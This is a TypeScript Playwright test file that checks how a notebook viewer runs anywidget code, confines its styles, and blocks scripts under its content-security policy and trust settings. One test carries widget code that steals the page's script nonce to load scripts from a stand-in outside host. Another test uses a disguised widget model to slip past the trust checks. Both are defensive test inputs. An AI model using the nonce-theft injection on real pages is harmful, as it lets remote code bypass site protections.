import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../../harness/chromium';
import { byHand, fixture, model, openPage, type Fixture, type WidgetPage } from './page';

const anywidget = (esm: string, state = {}): ReturnType<typeof model> =>
  model(
    'Any',
    { _view_name: 'AnyView', _esm: esm, _anywidget_id: 'test.Widget', ...state },
    'anywidget',
    '~0.9.*',
  );

describe('anywidget', () => {
  let browser: Browser;
  let open: WidgetPage | undefined;
  before(async () => {
    browser = await launchChromium();
  });
  afterEach(async () => {
    await open?.close();
    open = undefined;
  });
  after(() => browser.close());
  const draw = async (notebook: Fixture, trusted = true): Promise<WidgetPage> => {
    open = await openPage(browser, notebook, { trusted });
    await open.drawAll();
    return open;
  };

  it('runs stored code, which changes its model without Python', async () => {
    const { frame } = await draw(await fixture('widgets/anywidgets'));
    const counter = frame.locator('#cell-0 .count');
    await counter.click();
    assert.equal(await counter.textContent(), 'count is 42');
    assert.equal(await frame.locator('#cell-2 .count').textContent(), 'count is 5');
    await frame.getByRole('slider', { name: 'Level' }).press('ArrowRight');
    assert.equal(await frame.locator('#cell-2 .count').textContent(), 'count is 6');
  });

  it('gets its binary buffers back, in base64 and in hexadecimal', async () => {
    const page = await draw(await fixture('widgets/anywidgets'));
    assert.equal(await page.frame.locator('.bars').textContent(), 'DataView of 10 bytes, sum 45');
    await page.close();
    const hex = anywidget(
      'export default { render({ model, el }) { el.textContent = new Uint8Array(model.get("data").x.buffer).join(); } };',
      { data: {} },
    );
    hex['buffers'] = [{ path: ['data', 'x'], data: '00FF10', encoding: 'hex' }];
    const other = await draw(byHand({ one: hex }, 'one'));
    await other.frame.getByText('0,255,16').waitFor();
  });

  it('keeps its stylesheet to itself', async () => {
    const { frame } = await draw(await fixture('widgets/anywidgets'));
    const spacing = (selector: string): Promise<string> =>
      frame
        .locator(selector)
        .first()
        .evaluate((element) => getComputedStyle(element).letterSpacing);
    assert.equal(await spacing('.count'), '1px');
    assert.notEqual(await spacing('.ask'), '1px');
  });

  it('cleans up when its view goes', async () => {
    const { frame } = await draw(await fixture('widgets/anywidgets'));
    const element = await frame.locator('#cell-0 .count').evaluateHandle((button) => button.parentElement);
    await frame.evaluate('undrawAll()');
    await frame.waitForFunction((one) => one!.dataset['cleaned'] === 'yes', element);
  });

  it('says which host code comes from, and the policy stops it before it leaves the page', async () => {
    const page = await draw(await fixture('widgets/anywidgets'));
    await page.frame.getByText('loads code from esm.sh').waitFor();
    assert.deepEqual(
      [...new Set(await page.violations())],
      ['script-src-elem https://esm.sh/canvas-confetti@1'],
    );
    assert.deepEqual(page.requests, []);
  });

  it('cannot use the nonce of the page to load code from elsewhere', async () => {
    const code = `const { nonce } = document.querySelector('script[nonce]');
      const add = (members) => document.head.append(Object.assign(document.createElement('script'), { nonce, ...members }));
      add({ src: 'https://elsewhere.example/a.js' });
      add({ textContent: "globalThis.inside = 1; import('https://elsewhere.example/b.js').catch(() => { globalThis.done = true; })" });
      export default { render() {} };`;
    const page = await draw(byHand({ one: anywidget(code) }, 'one'));
    await page.frame.waitForFunction(() => 'done' in globalThis);
    assert.equal(await page.frame.evaluate('globalThis.inside'), 1, 'it does have the nonce');
    assert.deepEqual(page.requests, []);
    assert.deepEqual([...new Set(await page.violations())].sort(), [
      'script-src-elem https://elsewhere.example/a.js',
      'script-src-elem https://elsewhere.example/b.js',
    ]);
  });

  it('says so where code throws or never starts; the others work', async () => {
    const { frame } = await draw(await fixture('widgets/anywidgets'));
    await frame.getByText('this widget is broken').waitFor();
    await frame.getByText('did not finish starting within 5 seconds').waitFor();
    assert.equal(await frame.locator('#cell-0 .count').textContent(), 'count is 41');
  });

  it('never runs in a notebook that is not trusted', async () => {
    const code = 'globalThis.ran = true; export default { render() {} };';
    const page = await draw(byHand({ one: anywidget(code) }, 'one'), false);
    const notice = page.frame.locator('[data-kind=notice]');
    assert.match((await notice.textContent()) ?? '', /stays off until you trust/);
    assert.equal(await page.frame.evaluate('globalThis.ran'), undefined);
    assert.deepEqual(page.problems, []);
    assert.deepEqual(await page.violations(), []);
  });

  it('never runs untrusted code that a box, or a view of another module, leads to', async () => {
    const code = anywidget('globalThis.ran = true; export default { render() {} };');
    const box = model('VBox', { children: ['IPY_MODEL_one'] });
    const disguised = model('HTML', {
      _view_module: 'anywidget',
      _view_name: 'AnyView',
      _esm: 'globalThis.ran = true',
    });
    const page = await draw(byHand({ one: code, box, disguised }, 'box', 'disguised'), false);
    assert.equal(await page.frame.locator('[data-kind=notice]').count(), 2);
    assert.equal(await page.frame.evaluate('globalThis.ran'), undefined);
  });
});
